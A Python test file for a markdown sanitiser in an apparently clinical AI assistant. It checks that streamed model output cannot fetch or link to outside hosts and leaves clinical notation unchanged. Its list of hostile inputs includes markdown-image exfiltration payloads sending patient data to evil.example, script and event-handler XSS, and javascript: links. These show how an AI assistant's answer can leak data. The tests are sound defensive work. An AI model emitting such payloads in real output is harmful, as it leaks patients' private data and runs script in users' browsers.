from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.assistant.markdown import StreamSanitiser, as_markdown, sanitise

HOSTILE = [
    "![x](http://evil.example/leak?d=PATIENT_JANE)",
    "![x][a]\n\n[a]: http://evil.example/leak",
    "![a]\n\n[a]: http://evil.example/leak",
    "[![x](http://evil.example/a)](http://evil.example/b)",
    "![[x](http://evil.example/a)](http://evil.example/b)",
    "![x](<http://evil.example/leak>)",
    "![x]( http://evil.example/a\n 'title' )",
    "!\u200b[x](http://evil.example/a)",
    "<img src=http://evil.example/a>",
    "<IMG\nsrc='http://evil.example/a'>",
    "<script>alert(1)</script>",
    "<style>@import url(http://evil.example/a)</style>",
    "<!-- --><b onmouseover=alert(1)>x</b>",
    "<http://evil.example/a>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,AAAA)",
    "see http://evil.example/?q=PHI and www.evil.example and a@evil.example",
    "wwww.www.evil.example",
    "[^1]\n\n[^1]: http://evil.example",
    "[a](b)![c](d)",
    "\\![x](http://evil.example/a)",
]
LIVE = re.compile(r"!\[|\]\(|\]\[|\]:|<[A-Za-z/!?]|://|www\.|\w@\w", re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_fetches_or_links_survives(text: str) -> None:
    assert not LIVE.search(sanitise(text))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_stream_is_inert_wherever_it_is_cut(text: str, size: int) -> None:
    sanitiser = StreamSanitiser()
    pieces = [sanitiser.feed(text[at:at + size]) for at in range(0, len(text), size)]
    assert not LIVE.search("".join([*pieces, sanitiser.flush()]))


@pytest.mark.parametrize("cut", range(1, 44))
def test_a_construct_split_over_two_blocks_stays_inert(cut: int) -> None:
    text = "![x](http://evil.example/leak?d=PATIENT_JANE)"
    sanitiser = StreamSanitiser()
    shown = sanitiser.feed(text[:cut]) + sanitiser.flush() + sanitiser.feed(text[cut:]) + sanitiser.flush()
    assert not LIVE.search(shown)


@given(st.text(alphabet="![]()<>:/w.@ax1 \n\\`", max_size=60))
@settings(max_examples=400, deadline=None)
def test_sanitising_is_inert_and_idempotent_for_any_text(text: str) -> None:
    once = sanitise(text)
    assert not LIVE.search(once)
    assert sanitise(once) == once


def test_an_image_is_removed_and_a_link_becomes_its_text() -> None:
    text = "Before ![chart](http://evil.example/c.png) after, see [the guideline](https://example.org/g)."
    assert sanitise(text) == "Before (image removed) after, see the guideline (https:/ /example.org/g)."


def test_hidden_characters_are_removed() -> None:
    assert sanitise("nor\u200bmal \u202eevil\u202c\x00 text\U000e0041") == "normal evil text"


@pytest.mark.parametrize(
    "text",
    [
        "CRP <5 mg/L, p<0.05 and ANA 1:640 [reference 90-180]",
        "HLA-B*27:05 and DRB1*15:01; CYP2C19 *2/*3",
        "**C3** 61 mg/dL\n- item one\n- item two",
        "titre ≥1:80, 37.5 °C, 10^9/L, α₁",
    ],
)
def test_clinical_text_is_left_as_it_is(text: str) -> None:
    assert sanitise(text) == text


def test_stars_of_alleles_and_dollars_do_not_become_formatting() -> None:
    assert as_markdown("HLA-B*27:05 and DRB1*15:01 cost $5") == r"HLA-B\*27:05 and DRB1\*15:01 cost \$5"
    assert as_markdown("**2 mg** daily") == "**2 mg** daily"


def test_the_model_cannot_forge_a_citation_marker() -> None:
    sanitiser = StreamSanitiser()
    shown = sanitiser.feed("C3 fell [1") + sanitiser.feed("] again [2, 3]. Range [90-180].") + sanitiser.flush()
    assert shown == "C3 fell again. Range [90-180]."


def test_an_unclosed_bracket_does_not_hold_back_the_rest_of_the_answer() -> None:
    sanitiser = StreamSanitiser()
    assert sanitiser.feed("C3 fell [see\n") == "C3 fell [see\n"
    assert sanitiser.feed("Next line. ") == "Next line. "


def test_sanitising_takes_linear_time() -> None:
    for text in ("[" * 100_000, "![" * 50_000, "[a](" * 25_000, "![a](b" * 20_000, "<" * 100_000, "www." * 25_000):
        started = time.thread_time()
        sanitise(text)
        assert time.thread_time() - started < 2
